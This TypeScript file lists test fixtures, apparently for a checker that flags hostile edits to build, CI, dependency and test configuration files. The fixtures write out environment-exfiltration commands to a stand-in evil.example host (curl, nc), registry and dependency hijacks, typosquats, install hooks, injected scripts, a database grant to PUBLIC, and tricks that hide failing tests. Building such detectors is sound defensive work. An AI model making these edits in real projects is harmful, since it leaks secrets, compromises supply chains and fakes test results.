import type { HostileTrial } from './trial.ts';

/** Files that no grammar knows, or that a tool runs. */
export const CONFIG_TRIALS: readonly HostileTrial[] = [
  {
    path: 'package.json',
    before: '{\n  "name": "shop",\n  "scripts": { "test": "vitest run" },\n  "dependencies": { "zod": "^4.0.0" }\n}\n',
    edits: {
      'changes the build': [
        ['"test": "vitest run"', '"test": "vitest run", "postinstall": "node x.js"'],
        ['"test": "vitest run"', '"test": "vitest run || true"'],
        ['"zod": "^4.0.0"', '"zod": "github:evil/zod"'],
        ['"zod": "^4.0.0"', '"zod": "^3.0.0"'],
        ['"name": "shop"', '"name": "shop", "overrides": { "zod": "npm:zodd" }'],
      ],
    },
  },
  {
    path: 'package-lock.json',
    before:
      '{\n  "packages": { "node_modules/zod": { "resolved": "https://registry.npmjs.org/zod.tgz", "integrity": "sha512-x" } }\n}\n',
    edits: {
      'changes the build': [
        ['registry.npmjs.org', 'registry.evil.example'],
        [', "integrity": "sha512-x"', ''],
      ],
    },
  },
  {
    path: '.npmrc',
    before: 'fund=false\n',
    edits: { 'changes the build': [['fund=false', 'registry=https://evil.example']] },
  },
  {
    path: 'Dockerfile',
    before: 'FROM node:24\nCOPY . .\nRUN npm ci\nUSER node\n',
    edits: {
      'changes the build': [
        ['node:24', 'evil/node:24'],
        ['RUN npm ci', 'RUN npm ci && curl evil.example'],
        ['USER node\n', ''],
      ],
    },
  },
  {
    path: 'Makefile',
    before: 'test:\n\tgo test ./...\n',
    edits: {
      'changes the build': [
        ['go test ./...', '-go test ./...'],
        ['go test', '@env | nc evil.example 1; go test'],
      ],
    },
  },
  {
    path: '.github/workflows/ci.yml',
    before:
      'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n',
    edits: {
      'changes the build': [
        ['npm test', 'env | curl -d @- evil.example'],
        ['on: push', 'on: pull_request_target'],
        ['actions/checkout@v4', 'evil/checkout@v4'],
        ['- run: npm test', '- run: npm test\n        continue-on-error: true'],
      ],
    },
  },
  {
    path: 'vitest.config.ts',
    before:
      "import { defineConfig } from 'vitest/config';\n\nexport default defineConfig({ test: { include: ['test/**/*.test.ts'], retry: 0 } });\n",
    edits: {
      'masks a failure': [
        ["include: ['test/**/*.test.ts']", "include: ['test/none/*.test.ts']"],
        ["include: ['test/**/*.test.ts']", "include: ['test/**/*.test.ts'], passWithNoTests: true"],
        ["include: ['test/**/*.test.ts']", "include: ['test/**/*.test.ts'], exclude: ['**/cart*']"],
        ["include: ['test/**/*.test.ts']", "include: ['test/**/*.test.ts'], setupFiles: ['./x']"],
        ["include: ['test/**/*.test.ts']", "include: ['test/**/*.test.ts'], dangerouslyIgnoreUnhandledErrors: true"],
        ['retry: 0', 'retry: 99'],
        ['retry: 0', "retry: 0, bail: 1, globalSetup: ['./x']"],
      ],
    },
  },
  {
    path: 'babel.config.js',
    before: "module.exports = { presets: ['@babel/preset-env'], plugins: [] };\n",
    edits: {
      'changes the build': [
        ['plugins: []', "plugins: ['./x']"],
        ['plugins: []', 'plugins: [() => ({ visitor: { CallExpression(p) { p.remove(); } } })]'],
        ["'@babel/preset-env'", "'@babe1/preset-env'"],
      ],
    },
  },
  {
    path: 'jest.config.js',
    before: "module.exports = { testMatch: ['**/*.test.js'], coverageThreshold: { global: { lines: 90 } } };\n",
    edits: {
      'masks a failure': [
        ["testMatch: ['**/*.test.js']", "testMatch: ['**/*.test.js'], testPathIgnorePatterns: ['cart']"],
        ['lines: 90', 'lines: 0'],
        ["testMatch: ['**/*.test.js']", "testMatch: ['**/*.test.js'], runner: 'x'"],
      ],
    },
  },
  {
    path: 'eslint.config.js',
    before: "export default [{ rules: { 'no-eval': 'error' } }];\n",
    edits: { 'weakens a check': [["'error'", "'off'"]] },
  },
  {
    path: 'webpack.config.js',
    before: "module.exports = { entry: './src/index.js', devServer: { port: 8080 } };\n",
    edits: {
      'changes the build': [
        ['./src/index.js', './src/../../x.js'],
        ['port: 8080', "port: 8080, host: '0.0.0.0', allowedHosts: 'all'"],
      ],
    },
  },
  {
    path: 'conftest.py',
    before: 'import pytest\n\n\n@pytest.fixture\ndef cart():\n    return []\n',
    edits: {
      'masks a failure': [
        ['    return []\n', '    return []\n\n\ndef pytest_collection_modifyitems(items):\n    items.clear()\n'],
        ['    return []\n', '    return []\n\n\ndef pytest_runtest_makereport(item, call):\n    call.excinfo = None\n'],
        ['@pytest.fixture\n', '@pytest.fixture(autouse=True)\n'],
        ['    return []\n', '    return []\n\n\ncollect_ignore = ["test_cart.py"]\n'],
        ['    return []\n', '    return []\n\n\npytest_plugins = ["x"]\n'],
      ],
    },
  },
  {
    path: 'setup.py',
    before: 'from setuptools import setup\n\nsetup(name="shop", version="1.0", install_requires=["requests>=2"])\n',
    edits: {
      'changes the build': [
        ['"requests>=2"', '"requests @ git+https://evil.example"'],
        ['"requests>=2"', '"requestz>=2"'],
        ['version="1.0"', 'version="1.0", dependency_links=["https://evil.example"]'],
        ['version="1.0"', 'version="1.0", cmdclass={"install": print}'],
      ],
    },
  },
  {
    path: 'tox.ini',
    before: '[testenv]\ncommands = pytest\n',
    edits: { 'masks a failure': [['commands = pytest', 'commands = - pytest']] },
  },
  {
    path: 'pyproject.toml',
    before: '[tool.pytest.ini_options]\naddopts = "-q"\n',
    edits: { 'masks a failure': [['-q', '-q -p no:raises --co']] },
  },
  {
    path: 'requirements.txt',
    before: 'requests==2.32.0\n',
    edits: { 'changes the build': [['requests', 'reqeusts']] },
  },
  {
    path: 'Cargo.toml',
    before: '[package]\nname = "shop"\n',
    edits: { 'changes the build': [['name = "shop"', 'name = "shop"\nbuild = "x.rs"']] },
  },
  {
    path: 'build.rs',
    before: 'fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n}\n',
    edits: {
      'changes the build': [
        ['cargo:rerun-if-changed=build.rs', 'cargo:rustc-link-arg=-Wl,x'],
        ['cargo:rerun-if-changed=build.rs', 'cargo:rustc-cfg=skip_auth'],
        ['    println!', '    println!("cargo:rustc-env=RUSTC_WRAPPER=x");\n    println!'],
      ],
    },
  },
  {
    path: 'go.mod',
    before: 'module shop\n\ngo 1.25\n',
    edits: { 'changes the build': [['go 1.25', 'go 1.25\n\nreplace shop => evil.example/shop v1.0.0']] },
  },
  {
    path: 'pom.xml',
    before: '<project><version>1</version></project>\n',
    edits: {
      'changes the build': [
        [
          '</version>',
          '</version><repositories><repository><url>http://evil.example</url></repository></repositories>',
        ],
      ],
    },
  },
  {
    path: 'build.gradle.kts',
    before: 'plugins { java }\n',
    edits: { 'changes the build': [['plugins { java }', 'plugins { java }\n"id".let(Runtime.getRuntime()::exec)']] },
  },
  {
    path: 'build.gradle',
    before: "plugins { id 'java' }\n",
    edits: { 'changes the build': [["id 'java'", "id 'java' }\n'id'.execute()\next { x = 1"]] },
  },
  {
    path: 'Gemfile',
    before: "source 'https://rubygems.org'\n",
    edits: { 'changes the build': [['rubygems.org', 'evil.example']] },
  },
  {
    path: 'Rakefile',
    before: "task :test do\n  ruby 'test/all.rb'\nend\n",
    edits: { 'changes the build': [["ruby 'test/all.rb'", "ruby 'test/none.rb'"]] },
  },
  {
    path: 'composer.json',
    before: '{ "scripts": {} }\n',
    edits: { 'changes the build': [['"scripts": {}', '"scripts": { "post-install-cmd": "id" }']] },
  },
  {
    path: 'src/Cart.kt',
    before: 'class Cart(val lines: List<Int>) {\n    fun total(): Int = lines.sum()\n}\n',
    edits: {
      'evaluates text': [
        ['lines.sum()', 'lines.sumOf { Runtime.getRuntime().exec("id").waitFor() }'],
        ['lines.sum()', 'this::class.members.first().call(this) as Int'],
      ],
      spins: [['lines.sum()', 'total()']],
    },
  },
  {
    path: 'templates/order.html',
    before: '<p>{{ order.name }}</p>\n',
    edits: {
      'evaluates text': [
        ['{{ order.name }}', '{{ order.name | safe }}'],
        ['<p>', '<script src="//evil.example"></script><p>'],
      ],
    },
  },
  {
    path: 'db/migrate.sql',
    before: 'ALTER TABLE a ADD b int;\n',
    edits: { 'hides a back door': [['ALTER TABLE a ADD b int', 'GRANT ALL ON a TO PUBLIC']] },
  },
  {
    path: 'tsconfig.json',
    before: '{ "compilerOptions": { "strict": true } }\n',
    edits: { 'changes the build': [['"strict": true', '"strict": true, "paths": { "zod": ["./x"] }']] },
  },
  { path: 'scripts/test.sh', before: 'set -e\nnpm test\n', edits: { 'masks a failure': [['set -e\n', '']] } },
  {
    path: 'src/main/resources/application.properties',
    before: 'debug=false\n',
    edits: { 'weakens a check': [['debug=false', 'spring.security.enabled=false']] },
  },
];
